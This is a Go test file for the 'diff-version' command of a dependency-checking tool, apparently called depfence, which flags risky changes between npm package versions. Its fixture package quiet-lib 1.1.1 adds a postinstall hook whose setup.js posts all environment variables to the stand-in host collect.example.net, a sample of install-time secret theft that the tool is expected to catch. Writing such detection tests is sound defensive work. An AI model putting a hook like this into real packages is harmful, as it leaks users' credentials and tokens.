package cli

import (
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/registry/registrytest"
	"github.com/depfence/depfence/internal/versiondiff"
)

// isolate keeps a CLI test away from the user's npm configuration and npm.
func isolate(t *testing.T) {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	old := askNpmDefault
	askNpmDefault = func(string) (string, error) { return "", errors.New("npm not asked in tests") }
	t.Cleanup(func() { askNpmDefault = old })
}

func TestDiffVersionCLI(t *testing.T) {
	isolate(t)
	srv := registrytest.New(t)
	srv.AddPackage("quiet-lib", "1.1.0", map[string]any{"main": "index.js"},
		map[string]string{"index.js": "module.exports = (a, b) => a + b\n"})
	srv.AddPackage("quiet-lib", "1.1.1", map[string]any{"main": "index.js", "scripts": map[string]any{"postinstall": "node setup.js"}},
		map[string]string{
			"index.js": "module.exports = (a, b) => a + b\n",
			"setup.js": "const https = require('https');\nconst req = https.request({ hostname: 'collect.example.net', method: 'POST' });\n" +
				"req.write(JSON.stringify(process.env));\nreq.end();\n",
		})
	cache := t.TempDir()
	base := []string{"diff-version", "quiet-lib", "1.1.0", "1.1.1", "--registry", srv.URL, "--cache-dir", cache}

	out, errOut, code := run(t, nil, base...)
	if code != ExitPolicy {
		t.Fatalf("exit %d, stderr:\n%s\nstdout:\n%s", code, errOut, out)
	}
	for _, s := range []string{"quiet-lib 1.1.0 -> 1.1.1 (patch)", "ALERT:", "A setup.js", "+ scripts.postinstall: node setup.js"} {
		if !strings.Contains(out, s) {
			t.Errorf("stdout lacks %q:\n%s", s, out)
		}
	}

	// JSON, from the cache this time, never failing
	out, errOut, code = run(t, nil, append(base, "--format", "json", "--fail-on", "none")...)
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var res versiondiff.Result
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatalf("json: %v\n%s", err, out)
	}
	if res.From.Version != "1.1.0" || res.To.Version != "1.1.1" || res.Summary.Added != 1 || len(res.New) == 0 {
		t.Errorf("result %+v", res)
	}

	// the reverse direction gains nothing
	_, errOut, code = run(t, nil, "diff-version", "quiet-lib", "1.1.1", "1.1.0", "--registry", srv.URL, "--cache-dir", cache)
	if code != ExitOK {
		t.Errorf("reverse: exit %d: %s", code, errOut)
	}
	// unknown version: operational error naming it
	_, errOut, code = run(t, nil, "diff-version", "quiet-lib", "1.1.0", "9.0.0", "--registry", srv.URL, "--cache-dir", cache)
	if code != ExitOperation || !strings.Contains(errOut, "9.0.0") {
		t.Errorf("unknown version: exit %d: %s", code, errOut)
	}
	// bad name: usage
	if _, _, code = run(t, nil, "diff-version", "BAD NAME", "1", "2"); code != ExitUsage {
		t.Errorf("bad name: exit %d", code)
	}
}
